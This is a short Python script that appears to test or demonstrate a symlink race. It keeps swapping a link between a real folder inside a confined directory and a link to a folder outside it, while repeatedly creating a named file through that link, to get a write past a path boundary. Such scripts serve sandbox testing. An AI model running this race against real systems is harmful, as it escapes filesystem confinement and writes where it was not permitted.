"""Writes through a name that is a folder and a link out of the box by turns: race.py INSIDE OUTSIDE FILE."""
import os
import sys
import threading
import time

inside, outside, name = sys.argv[1:4]
real, link, door = (inside + "/race-" + n for n in ("real", "link", "door"))
os.makedirs(real, exist_ok=True)
if not os.path.islink(link):
    os.symlink(outside, link)
end = time.monotonic() + 1


def swap():
    while time.monotonic() < end:
        for source in (link, real):
            try:
                os.unlink(door)
            except OSError:
                pass
            os.symlink(source, door)


threading.Thread(target=swap, daemon=True).start()
while time.monotonic() < end:
    try:
        open(door + "/" + name, "w").close()
    except OSError:
        pass
